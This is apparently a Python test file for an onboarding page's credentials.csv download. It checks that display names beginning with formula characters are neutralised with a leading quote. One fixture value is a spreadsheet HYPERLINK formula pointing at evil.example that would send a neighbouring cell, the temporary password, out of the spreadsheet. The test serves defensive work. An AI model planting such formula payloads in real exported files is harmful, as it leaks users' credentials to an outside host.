"""The onboarding page's credentials.csv: names from a roster never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import html
import io
import re
import uuid

import httpx

ADMIN_ID = uuid.uuid4()
EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Open, me")'
CREDENTIALS = [
    {"email": "eve@demo.coop", "display_name": EVIL, "temporary_password": "s3cret-Pass"},
    {"email": "dan@demo.coop", "display_name": "@Dan +1", "temporary_password": "Xy_9-z"},
    {"email": "cy@demo.coop", "display_name": "Cy Ode", "temporary_password": "plainPass1"},
]
REPORT = {
    "dry_run": False, "summary": {"created": 3, "updated": 0, "unchanged": 0},
    "rows": [{"line": i + 2, "email": c["email"], "action": "created", "changes": None} for i, c in enumerate(CREDENTIALS)],
    "credentials": CREDENTIALS, "welcome_emails": [],
}


def identity(request: httpx.Request) -> httpx.Response:
    if request.url.path == "/members/import":
        return httpx.Response(200, json=REPORT)
    return httpx.Response(404, json={"error": {"code": "not_found", "message": "nope"}})


async def test_the_downloaded_credentials_keep_every_name_whole_and_guard_formulas(gateway_over, keys) -> None:
    async with gateway_over(identity=identity) as gateway:
        gateway.cookies.set("habitat_access", keys.mint(ADMIN_ID, "admin"))
        gateway.cookies.set("habitat_csrf", "c1")
        page = await gateway.post("/admin/members/import", data={
            "csrf_token": "c1", "confirm": "yes", "content": "email,display_name,role\neve@demo.coop,x,member\n"})
        assert page.status_code == 200, page.text
        field = re.search(r'<textarea name="credentials" hidden>(.*?)</textarea>', page.text, re.DOTALL)
        download = await gateway.post("/admin/members/import/credentials.csv",
                                      data={"csrf_token": "c1", "credentials": html.unescape(field.group(1))})
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    assert download.content.startswith("\ufeff".encode())  # for spreadsheets: UTF-8, said so
    assert list(csv.reader(io.StringIO(download.content.decode("utf-8-sig")))) == [
        ["email", "display_name", "temporary_password"],
        ["eve@demo.coop", "'" + EVIL, "s3cret-Pass"],
        ["dan@demo.coop", "'@Dan +1", "Xy_9-z"],
        ["cy@demo.coop", "Cy Ode", "plainPass1"],
    ]
